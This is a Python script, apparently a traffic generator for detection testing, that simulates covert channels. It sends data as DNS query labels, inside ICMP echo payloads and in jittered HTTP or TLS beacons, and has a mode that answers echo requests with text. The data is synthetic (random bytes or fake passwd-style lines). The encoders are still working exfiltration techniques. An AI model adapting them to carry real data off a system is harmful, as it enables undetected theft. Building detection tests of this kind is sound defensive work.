#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Hidden ways out: data in the names of DNS questions, data in echo requests, and calls home at a steady period."""
import argparse
import base64
import random
import socket
import ssl
import struct
import sys
import time

A, ECHO_REPLY, ECHO_REQUEST = 1, 0, 8
ENCODINGS = {
    "hex": lambda data: data.hex(),
    "base32": lambda data: base64.b32encode(data).decode().lower().rstrip("="),
    "base64": lambda data: base64.urlsafe_b64encode(data).decode().rstrip("="),
}
TEXT = b"user%d:x:%d:%d:an account of a small firm:/home/user%d:/bin/bash\n"


def secret(size, form):
    """The data that leaves: compressed or encrypted, which looks random, or a plain text."""
    if form == "random":
        return random.randbytes(size)
    return b"".join(TEXT % (n, 1000 + n, 1000 + n, n) for n in range(size // len(TEXT) + 1))[:size]


def query(name, kind):
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def dns(a):
    """Sends data as labels in front of a zone, a question each --every seconds, and waits for no answer."""
    data, number = secret(a.bytes, a.form), 0
    while data:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        labels = [f"{number:04x}"] if a.number else []
        for _ in range(a.labels):
            room = {"hex": a.label // 2, "base32": a.label * 5 // 8, "base64": a.label * 3 // 4}[a.encoding]
            chunk, data = data[:room], data[room:]
            if chunk:
                labels.append(ENCODINGS[a.encoding](chunk))
        sock.sendto(query(".".join([*labels, a.zone]), a.type), (a.server, 53))
        number += 1
        time.sleep(a.every * random.uniform(1 - a.jitter, 1 + a.jitter))


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def message(kind, number, sequence, payload):
    body = struct.pack("!BBHHH", kind, 0, 0, number, sequence) + payload
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


def icmp(a):
    """Sends data as the payload of echo requests."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    data = secret(a.bytes, a.form)
    for sequence, at in enumerate(range(0, len(data), a.size)):
        sock.sendto(message(ECHO_REQUEST, 4711, sequence, data[at : at + a.size]), (a.server, 0))
        time.sleep(a.every * random.uniform(1 - a.jitter, 1 + a.jitter))


def icmp_shell(a):
    """Answers echo requests with commands and output instead of what was sent; the host itself must stay silent."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    while True:
        packet, (peer, _) = sock.recvfrom(65536)
        body = packet[(packet[0] & 15) * 4 :]
        if body[0] == ECHO_REQUEST:
            number, sequence = struct.unpack_from("!HH", body, 4)
            sock.sendto(message(ECHO_REPLY, number, sequence, secret(random.randint(8, a.size), a.form)), (peer, 0))


def beacon(a):
    """Calls a server every --period seconds, each time with the same few bytes, and takes the answer."""
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    due = time.monotonic()
    for number in range(a.rounds):
        request = b"\x16\x01" + random.randbytes(46)
        if a.form in ("http", "tls"):
            size = 40000 if number == a.task else 120
            cookie = random.randbytes(16).hex()
            request = f"GET /{size} HTTP/1.1\r\nHost: {a.server}\r\nCookie: {cookie}\r\n\r\n".encode()
        try:
            if a.form == "udp":
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    sock.settimeout(0.3)
                    sock.bind((a.source, 0))
                    sock.sendto(request, (a.server, a.port))
                    sock.recv(2000)
            else:
                sock = socket.create_connection((a.server, a.port), 1, (a.source, 0))
                with tls.wrap_socket(sock) if a.form == "tls" else sock as session:
                    session.sendall(request)
                    while session.recv(65536) and a.form != "tcp":
                        pass
        except OSError as e:
            print(f"covert.py: {a.server}: {e}", file=sys.stderr)
        due += a.period * random.uniform(1 - a.jitter, 1 + a.jitter)
        time.sleep(max(0, due - time.monotonic()))


def main():
    p = argparse.ArgumentParser(description=__doc__)
    kinds = p.add_subparsers(required=True)

    def kind(function, *arguments, **defaults):
        q = kinds.add_parser(function.__name__.replace("_", "-"), help=function.__doc__)
        for name in arguments:
            q.add_argument(name)
        for name, value in defaults.items():
            q.add_argument("--" + name, default=value, type=type(value))
        q.add_argument("--seed", type=int)
        q.set_defaults(run=function)
        return q

    q = kind(dns, "server", "zone", bytes=6000, labels=1, label=60, every=0.1, jitter=0.2, type=A, form="random")
    q.add_argument("--encoding", choices=ENCODINGS, default="hex")
    q.add_argument("--number", action="store_true", help="a sequence number in front")
    kind(icmp, "server", bytes=20000, size=512, every=0.2, jitter=0.2, form="random")
    kind(icmp_shell, size=600, form="text")
    q = kind(beacon, "server", form="http", port=80, period=1.0, jitter=0.0, rounds=24, source="0.0.0.0", task=-1)
    a = p.parse_args()
    random.seed(a.seed)
    a.run(a)
    return 0


sys.exit(main())
